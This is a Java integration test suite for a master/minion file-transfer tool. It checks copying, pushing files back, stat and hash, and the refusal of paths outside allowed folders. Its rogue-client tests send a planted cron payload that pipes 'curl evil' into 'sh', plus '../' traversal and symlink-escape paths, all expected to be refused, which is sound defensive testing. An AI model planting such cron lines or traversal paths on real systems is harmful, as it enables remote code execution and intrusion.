package io.brine.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.sun.management.GarbageCollectionNotificationInfo;
import io.brine.jobs.JobSpec;
import io.brine.minion.Minion;
import io.brine.protocol.FilePush;
import io.brine.protocol.FilePushAck;
import io.brine.protocol.KeyStatus;
import io.brine.protocol.Role;
import java.io.IOException;
import java.io.InputStream;
import java.io.RandomAccessFile;
import java.lang.management.GarbageCollectorMXBean;
import java.lang.management.ManagementFactory;
import java.lang.management.MemoryPoolMXBean;
import java.lang.management.MemoryType;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.security.MessageDigest;
import java.time.Duration;
import java.util.HexFormat;
import java.util.List;
import java.util.Random;
import java.util.Set;
import java.util.concurrent.atomic.AtomicLong;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import javax.management.NotificationEmitter;
import javax.management.NotificationListener;
import javax.management.openmbean.CompositeData;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Files both ways between a real master and real minions on loopback, through the CLI: {@code brine cp} to
 * minions, {@code cp.push} and {@code brine cp --from} back, {@code file.stat} and {@code file.hash}, and the
 * paths that must be refused. The master and the minions share this JVM, so its heap bounds theirs together.
 */
class FileTransferTest {
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final Duration WAIT = Duration.ofSeconds(15);
    private static final long MIB = 1L << 20;
    /** The big transfer: 1 GiB, sparse on the master's side so the test needs no GiB of random data. */
    private static final long BIG = 1024 * MIB;

    @TempDir
    static Path root;
    static TestCluster cluster;
    /** Files on the master's host, to copy from and back to. */
    static Path here;
    /** Where both minions may read and write (file_roots_allowed). */
    static Path shared;

    @BeforeAll
    static void startAMasterAndTwoMinionsConfinedToOneFolder() throws Exception {
        here = Files.createDirectories(root.resolve("here"));
        shared = Files.createDirectories(root.resolve("shared"));
        cluster = TestCluster.start(root);
        for (String id : List.of("alpha", "beta")) {
            cluster.addMinion(id, cfg -> cfg.withFileRootsAllowed(List.of(shared)));
        }
        for (Minion m : cluster.minions) {
            TestCluster.awaitStatus(m, KeyStatus.PENDING, WAIT);
        }
        assertEquals(0, cluster.cli("key", "accept", "--all").exit());
        for (Minion m : cluster.minions) {
            TestCluster.awaitStatus(m, KeyStatus.ACCEPTED, WAIT);
        }
    }

    @AfterAll
    static void stop() {
        cluster.close();
    }

    @Test
    void aSmallFileReachesBothMinionsWithItsContentAndMode() throws Exception {
        Path source = Files.writeString(here.resolve("motd"), "welcome to brine\n");
        Files.setPosixFilePermissions(source, PosixFilePermissions.fromString("rwxr-x---"));
        Path dest = Files.createDirectories(shared.resolve("etc"));

        JsonNode doc = cpJson("-L", "alpha,beta", source.toString(), dest + "/");

        for (String id : List.of("alpha", "beta")) {
            JsonNode written = doc.get("returns").get(id).get("ret").get(dest.resolve("motd").toString());
            assertEquals(sha256(source), written.get("sha256").asText(), id);
            assertEquals("0750", written.get("mode").asText(), id);
        }
        assertEquals("welcome to brine\n", Files.readString(dest.resolve("motd")));
        assertEquals("rwxr-x---", PosixFilePermissions.toString(Files.getPosixFilePermissions(dest.resolve("motd"))));
        assertNoTemporaryFilesUnder(dest);
    }

    @Test
    void aMultiMebibyteFileAndASecondSourceArriveIntactOnBothMinions() throws Exception {
        Path big = randomFile(here.resolve("release.bin"), 24 * MIB);
        Path notes = Files.writeString(here.resolve("notes.txt"), "v2\n");
        Path dest = shared.resolve("release");

        JsonNode doc = cpJson("-L", "alpha,beta", big.toString(), notes.toString(), dest.toString());

        for (String id : List.of("alpha", "beta")) {
            JsonNode ret = doc.get("returns").get(id).get("ret");
            assertEquals(sha256(big), ret.get(dest.resolve("release.bin").toString()).get("sha256").asText(), id);
            assertEquals(24 * MIB, ret.get(dest.resolve("release.bin").toString()).get("size").asLong(), id);
        }
        assertEquals(sha256(big), sha256(dest.resolve("release.bin")));
        assertEquals("v2\n", Files.readString(dest.resolve("notes.txt")));
        assertNoTemporaryFilesUnder(dest);
    }

    @Test
    void aDestinationOutsideFileRootsAllowedIsRefusedAndNothingIsWritten() throws Exception {
        Path source = Files.writeString(here.resolve("payload"), "x");
        Path outside = Files.createDirectories(root.resolve("outside"));
        Files.createSymbolicLink(shared.resolve("escape"), outside);

        for (String dest : List.of(outside + "/payload", shared + "/../outside/payload", shared + "/escape/payload")) {
            TestCluster.CliResult r = cluster.cli("cp", "--out", "json", "alpha", source.toString(), dest);
            assertEquals(1, r.exit(), r.out() + r.err());
            String error = JSON.readTree(r.out()).get("returns").get("alpha").get("ret").asText();
            assertTrue(error.contains("refused") && error.contains("file_roots_allowed"), error);
        }
        try (Stream<Path> files = Files.list(outside)) {
            assertEquals(0, files.count(), "something was written outside file_roots_allowed");
        }
    }

    @Test
    void aGibibyteSparseFileGoesToAMinionAndBackInBoundedMemory() throws Exception {
        Path source = here.resolve("disk.img");
        try (RandomAccessFile f = new RandomAccessFile(source.toFile(), "rw")) {
            f.setLength(BIG);
            for (long at : new long[] {0, BIG / 3, BIG - 16}) {
                f.seek(at);
                f.write("brine marks here".getBytes(StandardCharsets.US_ASCII));
            }
        }
        String sha = sha256(source);
        Path dest = Files.createDirectories(shared.resolve("images"));
        Path back = Files.createDirectories(here.resolve("back"));

        try (HeapWatch heap = HeapWatch.start()) {
            long t0 = System.nanoTime();
            JsonNode there = cpJson("--timeout", "120", "alpha", source.toString(), dest.toString());
            long t1 = System.nanoTime();
            assertEquals(sha, there.get("returns").get("alpha").get("ret").get(dest.resolve("disk.img").toString())
                    .get("sha256").asText());
            TestCluster.CliResult r = cluster.cli("cp", "--out", "json", "--timeout", "120", "--from", "alpha",
                    dest.resolve("disk.img").toString(), back.toString());
            long t2 = System.nanoTime();
            assertEquals(0, r.exit(), r.out() + r.err());
            assertEquals(back.resolve("disk.img").toString(), JSON.readTree(r.out()).get("dest").asText());
            assertEquals(sha, sha256(back.resolve("disk.img")));
            double recv = seconds(there.get("returns").get("alpha"));
            double push = seconds(JSON.readTree(r.out()).get("returns").get("alpha"));
            System.out.printf("1 GiB master->minion: %.1f s in all, cp.recv %.1f s (%.0f MiB/s); minion->master->here: "
                    + "%.1f s in all, cp.push %.1f s (%.0f MiB/s); heap peak after GC %d MiB, heap peak sampled %d MiB, "
                    + "%d GCs%n", (t1 - t0) / 1e9, recv, BIG / MIB / recv, (t2 - t1) / 1e9, push, BIG / MIB / push,
                    heap.peakAfterGc() / MIB, heap.peakSampled() / MIB, heap.collections());
            assertTrue(heap.collections() > 0, "no garbage collection ran, so the heap was not measured");
            assertTrue(heap.peakAfterGc() < 256 * MIB, "heap after GC reached " + heap.peakAfterGc() / MIB + " MiB");
        }
        assertNoTemporaryFilesUnder(dest);
        assertNoTemporaryFilesUnder(back);
    }

    @Test
    void aPushedFileIsStoredUnderTheMinionsIdAndCopiedHereWithItsMode() throws Exception {
        Path log = Files.writeString(shared.resolve("app.log"), "started\nstopped\n");
        Files.setPosixFilePermissions(log, PosixFilePermissions.fromString("rw-r-----"));

        TestCluster.CliResult pushed = cluster.cli("run", "--out", "json", "beta", "cp.push", log.toString());
        assertEquals(0, pushed.exit(), pushed.out() + pushed.err());
        assertEquals(sha256(log), JSON.readTree(pushed.out()).get("returns").get("beta").get("ret").get("sha256")
                .asText());
        Path stored = root.resolve("master/cache/minions/beta/files").resolve(log.toString().substring(1));
        assertEquals("started\nstopped\n", Files.readString(stored));

        TestCluster.CliResult r = cluster.cli("cp", "--from", "beta", log.toString(), here.resolve("beta.log").toString());
        assertEquals(0, r.exit(), r.out() + r.err());
        assertTrue(r.out().contains("dest: " + here.resolve("beta.log")), r.out());
        assertEquals("started\nstopped\n", Files.readString(here.resolve("beta.log")));
        assertEquals("rw-r-----", PosixFilePermissions.toString(Files.getPosixFilePermissions(here.resolve("beta.log"))));
    }

    @Test
    void aPushEscapingThroughDotDotOrASymlinkIsRefused() throws Exception {
        Path secret = Files.writeString(root.resolve("secret.txt"), "not for the master");
        Files.createSymbolicLink(shared.resolve("innocent.txt"), secret);

        for (String path : List.of(shared + "/../secret.txt", shared + "/innocent.txt")) {
            TestCluster.CliResult r = cluster.cli("run", "--out", "json", "alpha", "cp.push", path);
            assertEquals(1, r.exit(), r.out());
            String error = JSON.readTree(r.out()).get("returns").get("alpha").get("ret").asText();
            assertTrue(error.contains("refused") && error.contains("file_roots_allowed"), error);
        }
        assertFalse(Files.exists(root.resolve("master/cache/minions/alpha/files").resolve(secret.toString().substring(1))));
        TestCluster.CliResult viaCp = cluster.cli("cp", "--from", "alpha", shared + "/innocent.txt", here.toString());
        assertEquals(1, viaCp.exit());
        assertFalse(Files.exists(here.resolve("innocent.txt")));
    }

    @Test
    void aMinionPushingOutsideItsFolderOnTheMasterIsRefused() throws Exception {
        try (RogueClient rogue = new RogueClient(cluster.port, Role.MINION, "mallory")) {
            assertEquals(KeyStatus.PENDING, rogue.endpoint.awaitStatus(WAIT));
            assertEquals(0, cluster.cli("key", "accept", "mallory").exit());
            long deadline = System.nanoTime() + WAIT.toNanos();
            while (rogue.endpoint.status() != KeyStatus.ACCEPTED && System.nanoTime() < deadline) {
                Thread.sleep(20);
            }
            byte[] data = "owned".getBytes(StandardCharsets.US_ASCII);
            // Unsolicited: no cp.push job runs on mallory, so nothing is taken.
            rogue.endpoint.send(new FilePush(6, "t0", "/tmp/unasked", 0, data, true, sha256(data), 0644));
            assertTrue(awaitAck(rogue, 6).error().contains("no cp.push job is running"));
            assertFalse(Files.exists(root.resolve("master/cache/minions/mallory/files/tmp/unasked")));

            // With a cp.push job running (mallory never answers it), the paths themselves are checked.
            cluster.master.client().cast(JobSpec.of("mallory", "cp.push", "/tmp/x")
                    .withTimeout(java.time.Duration.ofSeconds(60)));
            rogue.endpoint.send(new FilePush(7, "t1", "../../../../escaped", 0, data, true, sha256(data), 0644));
            FilePushAck ack = awaitAck(rogue, 7);
            assertTrue(ack.error() != null && ack.error().contains("leaves"), String.valueOf(ack.error()));
            try (Stream<Path> all = Files.walk(root)) {
                assertEquals(List.of(), all.filter(p -> p.getFileName().toString().equals("escaped")).toList());
            }

            rogue.endpoint.send(new FilePush(8, "t2", "/tmp/x", 0, data, true, "0".repeat(64), 0644));
            assertTrue(awaitAck(rogue, 8).error().contains("SHA-256"));
            assertFalse(Files.exists(root.resolve("master/cache/minions/mallory/files/tmp/x")));
        }
    }

    @Test
    void aCpPushJobLetsTheMinionPushOnlyTheFileItAskedFor() throws Exception {
        try (RogueClient rogue = new RogueClient(cluster.port, Role.MINION, "trudy")) {
            assertEquals(KeyStatus.PENDING, rogue.endpoint.awaitStatus(WAIT));
            assertEquals(0, cluster.cli("key", "accept", "trudy").exit());
            long deadline = System.nanoTime() + WAIT.toNanos();
            while (rogue.endpoint.status() != KeyStatus.ACCEPTED && System.nanoTime() < deadline) {
                Thread.sleep(20);
            }
            // The operator asks trudy for its syslog; trudy never answers the job, and pushes other files instead.
            cluster.master.client().cast(JobSpec.of("trudy", "cp.push", "/var/log/syslog")
                    .withTimeout(Duration.ofSeconds(60)));
            byte[] planted = "* * * * * root curl evil | sh".getBytes(StandardCharsets.US_ASCII);
            rogue.endpoint.send(new FilePush(1, "t1", "/etc/cron.d/planted", 0, planted, true, sha256(planted), 0644));
            FilePushAck refused = awaitAck(rogue, 1);
            assertTrue(refused.error() != null && refused.error().contains("no cp.push job running on this minion "
                    + "asked for '/etc/cron.d/planted'"), String.valueOf(refused.error()));
            // even the name of a file the job could have asked for, but did not
            rogue.endpoint.send(new FilePush(2, "t2", "/var/log/auth.log", 0, planted, true, sha256(planted), 0644));
            assertTrue(String.valueOf(awaitAck(rogue, 2).error()).contains("asked for '/var/log/syslog'"));
            assertTrue(cluster.master.dropCounters().contains("pushes_refused_unrequested=2"),
                    cluster.master.dropCounters());

            // the file asked for, however spelled, is taken; nothing else was written
            byte[] log = "kernel: ok\n".getBytes(StandardCharsets.US_ASCII);
            rogue.endpoint.send(new FilePush(3, "t3", "/var//log/./syslog", 0, log, true, sha256(log), 0640));
            assertEquals(null, awaitAck(rogue, 3).error());
            Path files = root.resolve("master/cache/minions/trudy/files");
            try (Stream<Path> all = Files.walk(files)) {
                assertEquals(List.of(files.resolve("var/log/syslog")), all.filter(Files::isRegularFile).toList());
            }
        }
    }

    @Test
    void fileStatAndFileHashDescribeAFileInsideTheAllowedFolder() throws Exception {
        Path file = Files.writeString(shared.resolve("stat-me"), "twelve bytes");
        Files.setPosixFilePermissions(file, PosixFilePermissions.fromString("rw-r-----"));

        TestCluster.CliResult stat = cluster.cli("run", "--out", "json", "alpha", "file.stat", file.toString());
        assertEquals(0, stat.exit(), stat.out() + stat.err());
        JsonNode s = JSON.readTree(stat.out()).get("returns").get("alpha").get("ret");
        assertEquals("file", s.get("type").asText());
        assertEquals(12, s.get("size").asLong());
        assertEquals("0640", s.get("mode").asText());
        assertEquals(((Number) Files.getAttribute(file, "unix:uid")).longValue(), s.get("uid").asLong());
        assertEquals(Files.getLastModifiedTime(file).toMillis() / 1000, s.get("mtime").asLong());

        assertEquals(sha256(file), ret(cluster.cli("run", "--out", "json", "alpha", "file.hash", file.toString())));
        assertEquals("c91fa94e14cf2fa5474beceff788c0dc", ret(cluster.cli("run", "--out", "json", "alpha", "file.hash",
                file.toString(), "algorithm=md5")));
        TestCluster.CliResult outside = cluster.cli("run", "alpha", "file.hash", "/etc/hostname");
        assertEquals(1, outside.exit());
        assertTrue(outside.out().contains("file_roots_allowed"), outside.out());
    }

    /** How long a minion ran its part of a job. */
    private static double seconds(JsonNode ret) {
        return Duration.between(java.time.Instant.parse(ret.get("start_time").asText()),
                java.time.Instant.parse(ret.get("end_time").asText())).toMillis() / 1000.0;
    }

    private static String ret(TestCluster.CliResult r) throws IOException {
        assertEquals(0, r.exit(), r.out() + r.err());
        return JSON.readTree(r.out()).get("returns").get("alpha").get("ret").asText();
    }

    private static JsonNode cpJson(String... args) throws IOException {
        String[] all = Stream.concat(Stream.of("cp", "--out", "json"), Stream.of(args)).toArray(String[]::new);
        TestCluster.CliResult r = cluster.cli(all);
        assertEquals(0, r.exit(), r.out() + r.err());
        return JSON.readTree(r.out());
    }

    private static FilePushAck awaitAck(RogueClient rogue, long requestId) throws InterruptedException {
        long deadline = System.nanoTime() + WAIT.toNanos();
        while (System.nanoTime() < deadline) {
            for (var m : rogue.received) {
                if (m instanceof FilePushAck ack && ack.requestId() == requestId) {
                    return ack;
                }
            }
            Thread.sleep(20);
        }
        throw new AssertionError("no acknowledgement of push " + requestId);
    }

    private static void assertNoTemporaryFilesUnder(Path dir) throws IOException {
        try (Stream<Path> all = Files.walk(dir)) {
            List<Path> temps = all.filter(p -> p.getFileName().toString().endsWith(".part")).toList();
            assertEquals(List.of(), temps, "temporary files left behind");
        }
    }

    private static Path randomFile(Path file, long size) throws IOException {
        Random random = new Random(42);
        byte[] buf = new byte[(int) MIB];
        try (var out = Files.newOutputStream(file)) {
            for (long done = 0; done < size; done += buf.length) {
                random.nextBytes(buf);
                out.write(buf);
            }
        }
        return file;
    }

    static String sha256(Path file) throws Exception {
        MessageDigest md = MessageDigest.getInstance("SHA-256");
        byte[] buf = new byte[(int) MIB];
        try (InputStream in = Files.newInputStream(file)) {
            int n;
            while ((n = in.read(buf)) > 0) {
                md.update(buf, 0, n);
            }
        }
        return HexFormat.of().formatHex(md.digest());
    }

    static String sha256(byte[] data) throws Exception {
        return HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(data));
    }

    /**
     * The heap while something runs: what every collection left live (the memory actually held; garbage
     * awaiting collection does not count), and the raw occupancy sampled every 20 ms for comparison.
     */
    static final class HeapWatch implements AutoCloseable {
        private final AtomicLong peakAfterGc = new AtomicLong();
        private final AtomicLong peakSampled = new AtomicLong();
        private final AtomicLong collections = new AtomicLong();
        private final Set<String> heapPools = ManagementFactory.getMemoryPoolMXBeans().stream()
                .filter(p -> p.getType() == MemoryType.HEAP).map(MemoryPoolMXBean::getName).collect(Collectors.toSet());
        private final NotificationListener listener = (notification, handback) -> {
            if (notification.getType().equals(GarbageCollectionNotificationInfo.GARBAGE_COLLECTION_NOTIFICATION)) {
                var info = GarbageCollectionNotificationInfo.from((CompositeData) notification.getUserData());
                long live = info.getGcInfo().getMemoryUsageAfterGc().entrySet().stream()
                        .filter(e -> heapPools.contains(e.getKey())).mapToLong(e -> e.getValue().getUsed()).sum();
                peakAfterGc.accumulateAndGet(live, Math::max);
                collections.incrementAndGet();
            }
        };
        private final Thread sampler = new Thread(() -> {
            Runtime rt = Runtime.getRuntime();
            while (!Thread.currentThread().isInterrupted()) {
                peakSampled.accumulateAndGet(rt.totalMemory() - rt.freeMemory(), Math::max);
                try {
                    Thread.sleep(20);
                } catch (InterruptedException e) {
                    return;
                }
            }
        }, "heap-sampler");

        static HeapWatch start() {
            HeapWatch w = new HeapWatch();
            System.gc();
            for (GarbageCollectorMXBean gc : ManagementFactory.getGarbageCollectorMXBeans()) {
                ((NotificationEmitter) gc).addNotificationListener(w.listener, null, null);
            }
            w.sampler.setDaemon(true);
            w.sampler.start();
            return w;
        }

        long peakAfterGc() {
            return peakAfterGc.get();
        }

        long peakSampled() {
            return peakSampled.get();
        }

        long collections() {
            return collections.get();
        }

        @Override
        public void close() throws Exception {
            sampler.interrupt();
            for (GarbageCollectorMXBean gc : ManagementFactory.getGarbageCollectorMXBeans()) {
                ((NotificationEmitter) gc).removeNotificationListener(listener);
            }
        }
    }
}
